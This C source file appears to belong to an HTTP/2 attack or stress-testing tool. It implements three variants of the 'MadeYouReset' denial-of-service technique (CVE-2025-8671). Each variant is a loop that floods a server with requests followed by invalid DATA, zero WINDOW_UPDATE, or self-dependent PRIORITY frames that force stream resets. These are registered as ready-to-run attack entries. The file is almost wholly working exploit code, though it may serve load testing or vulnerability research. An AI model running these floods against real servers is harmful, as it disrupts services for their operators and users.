/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2025-8671: after each request a frame that makes the server reset the stream. */
#include "attack.h"

static bool turn_data(client *c)
{
    while (c->out_size < FLOOD) {
        const uint32_t stream = put_request(c, "GET", END_HEADERS | END_STREAM);
        put_frame(c, DATA, 0, stream, "x", 1); /* it was half closed: 5.1 */
    }
    return true;
}

static bool turn_window(client *c)
{
    while (c->out_size < FLOOD) {
        const uint32_t stream = put_request(c, "GET", END_HEADERS | END_STREAM);
        put_number_frame(c, WINDOW_UPDATE, stream, 0); /* 6.9: a stream error */
    }
    return true;
}

static bool turn_priority(client *c)
{
    while (c->out_size < FLOOD) {
        const uint32_t stream = put_request(c, "GET", END_HEADERS | END_STREAM);
        const uint8_t on_itself[5] = {(uint8_t)(stream >> 24), (uint8_t)(stream >> 16),
                                      (uint8_t)(stream >> 8), (uint8_t)stream, 15};
        put_frame(c, PRIORITY, 0, stream, on_itself, sizeof(on_itself));
    }
    return true;
}

const attack made_you_reset = {
    .name = "made-you-reset",
    .help = "requests, each with DATA after its end (CVE-2025-8671)",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_data,
};

const attack made_you_reset_window = {
    .name = "made-you-reset-window",
    .help = "requests, each with a WINDOW_UPDATE of 0",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_window,
};

const attack made_you_reset_priority = {
    .name = "made-you-reset-priority",
    .help = "requests, each of which is to depend on itself",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_priority,
};
